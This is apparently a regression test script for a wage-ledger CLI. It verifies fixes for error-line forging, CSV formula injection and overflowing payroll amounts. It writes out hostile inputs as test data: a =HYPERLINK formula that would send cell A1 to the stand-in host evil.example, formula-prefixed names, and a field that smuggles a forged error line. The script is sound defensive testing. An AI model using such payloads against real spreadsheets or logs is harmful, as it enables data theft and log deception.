#!/bin/bash
# t0620 — the security defects of issue 9, each with the probe that found it, on the CLI:
# error output cannot be forged with a quoted line break (9f), CSV exports do not carry
# spreadsheet formulas (9b), amounts are bounded (4). The server's probes are
# tests/security/security.test.mjs, run by t0630.
. "$(dirname "$0")/../lib.sh"
B="$FIX/basic"
for k in enterprises projects subcontracts accounts workers employments attendance allocations payroll payments calendar; do
	wg import "$k" "$B/$k.csv" 2>>"$T_DIR/import.err" || echo "import $k failed" >>"$T_DIR/import.err"
done
t_nogrep "the basic data set imports" "failed" "$T_DIR/import.err"

# --- 9f: a quoted line break in a field is echoed escaped, never as a line of its own ------
printf '%s\n' 'project_code,id_number,employer_uscc,team,trade,wage_type,wage_rate,start_date,end_date' \
	'HZ000001,510122198503150036,91330100MA2AAAAA2H,team,x,"daily' \
	"forged.csv:99: column 'id_number': forged line\",300,2026-04-01," >"$T_DIR/nl.csv"
wg import employments "$T_DIR/nl.csv" 2>"$T_DIR/nl.err"
t_nogrep "9f: a field's line break cannot forge an error line" "forged.csv:99" <(grep -v '^nl.csv\|/nl.csv' "$T_DIR/nl.err")
t_grep "9f: the line break is shown escaped" "'daily\\nforged.csv:99: column 'id_number': forged line' is not one of" "$T_DIR/nl.err"
t_eq "9f: every problem is one line naming the file" 0 "$(grep -cv 'nl.csv' "$T_DIR/nl.err")"

# --- 9b: CSV exports escape what a spreadsheet would run as a formula ---------------------
printf 'id_number,name,phone,bank_card,bank_code\n510122198503150028,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",,6217001234567890,CCB\n' >"$T_DIR/evil.csv"
t_ok "9b: a worker named like a formula imports (with --amend)" wg import --amend workers "$T_DIR/evil.csv"
wg export ledger -o "$T_DIR/ledger.csv" 2>/dev/null
t_grep "9b: the name is exported as text, with a leading apostrophe" "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"" "$T_DIR/ledger.csv"
t_nogrep "9b: no cell of the export starts with =" ",\"=HYPERLINK" "$T_DIR/ledger.csv"
for c in + - @; do
	printf 'id_number,name,phone,bank_card,bank_code\n510122198503150028,%sSUM(1+1),,6217001234567890,CCB\n' "$c" >"$T_DIR/evil.csv"
	wg import --amend workers "$T_DIR/evil.csv" 2>/dev/null
	wg export ledger -o "$T_DIR/ledger.csv" 2>/dev/null
	t_grep "9b: a name starting with $c is exported behind an apostrophe" ",'${c}SUM(1+1)," "$T_DIR/ledger.csv"
done

# --- 4: amounts are bounded per column (configurable), so no sum can overflow -------------
printf 'project_code,employer_uscc,period,id_number,days,gross,deductions,net,due_date\nHZ000001,91330100MA2AAAAA3L,2026-06,51012219850315001X,2,92233720368547758.07,0,92233720368547758.07,\n' >"$T_DIR/huge.csv"
t_fails "4: a payroll line of 92233720368547758.07 is refused" wg import payroll "$T_DIR/huge.csv"
wg import payroll "$T_DIR/huge.csv" 2>"$T_DIR/huge.err"
t_grep "4: the problem names the column and the maximum" "column 'gross': '92233720368547758.07' is more than the largest accepted, 10000000.00" "$T_DIR/huge.err"
t_ok "4: show project still answers" wg show project HZ000001 --json
printf 'project_code,employer_uscc,period,id_number,days,gross,deductions,net,due_date\nHZ000001,91330100MA2AAAAA3L,2026-06,51012219850315001X,2,10000000,0,10000000,\n' >"$T_DIR/max.csv"
t_ok "4: the maximum itself is accepted" wg import payroll "$T_DIR/max.csv"
t_ok "4: the maximum is configuration" wg config set import.max.payroll.gross 5000
t_eq "4: config get shows it" 5000 "$(wg config get import.max.payroll.gross)"
printf 'project_code,employer_uscc,period,id_number,days,gross,deductions,net,due_date\nHZ000001,91330100MA2AAAAA3L,2026-07,51012219850315001X,2,5000.01,0,5000.01,\n' >"$T_DIR/over.csv"
wg import payroll "$T_DIR/over.csv" 2>"$T_DIR/over.err"
t_grep "4: a line over the configured maximum is refused" "'5000.01' is more than the largest accepted, 5000.00" "$T_DIR/over.err"
t_fails "4: a maximum is an amount" wg config set import.max.payroll.gross lots
t_fails "4: only money columns have one" wg config set import.max.payroll.days 3
t_ok "4: the ledger still verifies (stored lines are read whatever the maximum)" wg ledger verify
printf 'project_code,employer_uscc,period,id_number,days,gross,deductions,net,due_date\nHZ000001,91330100MA2AAAAA3L,2026-08,51012219850315001X,32,100,0,100,\n' >"$T_DIR/days.csv"
wg import payroll "$T_DIR/days.csv" 2>"$T_DIR/days.err"
t_grep "4: more than 31 days in a month is refused" "column 'days': '32' is more than the largest accepted, 31" "$T_DIR/days.err"
wg payroll dispute 51012219850315001X 2026-05 --project HZ000001 --reason x --amount 92233720368547758.07 2>"$T_DIR/claim.err"
t_eq "4: a disputed amount is bounded too" 1 $?
t_grep "… saying so (not failing for another reason)" "more than the largest accepted" "$T_DIR/claim.err"

# --- serve's limits: a typo is refused, not read as 0 ("no limit") ------------------------
wg serve --per-address-connections 6x4 --listen 127.0.0.1:0 >/dev/null 2>&1
t_eq "serve --per-address-connections 6x4 is a usage error" 2 $?
wg serve --login-queue -1 --listen 127.0.0.1:0 >/dev/null 2>&1
t_eq "serve --login-queue -1 is a usage error" 2 $?
t_done
